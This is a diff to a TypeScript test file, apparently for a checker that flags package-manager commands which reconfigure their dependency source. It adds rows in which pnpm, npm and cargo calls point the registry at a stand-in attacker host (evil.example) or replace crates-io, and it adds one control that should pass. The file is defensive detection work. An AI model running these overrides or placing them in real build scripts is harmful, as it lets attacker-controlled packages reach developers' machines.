@@ -90,6 +90,16 @@ const CONFIGURED_BY_COMMAND: FindingRow[] = [
   ['src/check.go', 'exec.Command("sh", "-c", "go env -w GOPRIVATE=*").Run()'],
 ];
 
+// R7 (high, found on the way): the same settings given as options after an allowed verb, on the command line or in
+// the list (pnpm's `--config.*`, `--registry`, cargo's `--config`, which also sets a target's runner).
+const CONFIGURED_AFTER_THE_VERB: FindingRow[] = [
+  ['src/check.py', SYSTEM('pnpm run build --config.verify-deps-before-run=install --registry=https://evil.example/')],
+  ['src/check.py', PY("'npm test --registry https://evil.example/', shell=True")],
+  ['src/check.js', "execSync('cargo build --config registries.evil.index=\"https://evil.example\"')"],
+  ['src/check.py', PY("['cargo', 'build', '--config', 'source.crates-io.replace-with=\"evil\"']")],
+  ['src/check.py', PY("['pnpm', 'run', 'build', '--config.verify-deps-before-run=install']")],
+];
+
 describeFindings('review-43', [
   ['R1', [...closedRows(REFUSED_BEFORE), ...closedRows(MANAGER_CONFIGURATION)]],
   ['R2', closedRows(TOOLCHAIN_FETCHES)],
@@ -97,6 +107,7 @@ describeFindings('review-43', [
   ['R4', closedRows(MANAGER_ENVIRONMENT)],
   ['R5', closedRows(MANIFEST_WRITTEN)],
   ['R6', closedRows(CONFIGURED_BY_COMMAND)],
+  ['R7', closedRows(CONFIGURED_AFTER_THE_VERB)],
 ]);
 
 describe('review-43 controls', () => {
@@ -114,6 +125,7 @@ describe('review-43 controls', () => {
     ['src/check.py', "text = open('package.json', 'r').read()"],
     ['src/check.go', 'out, err := exec.Command("go", "env", "GOPATH").Output()'],
     ['src/check.js', "const prefix = execSync('npm config get prefix').toString().trim();"],
+    ['src/check.py', SYSTEM('npm run test -- --reporter=dot')],
   ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
 });
 
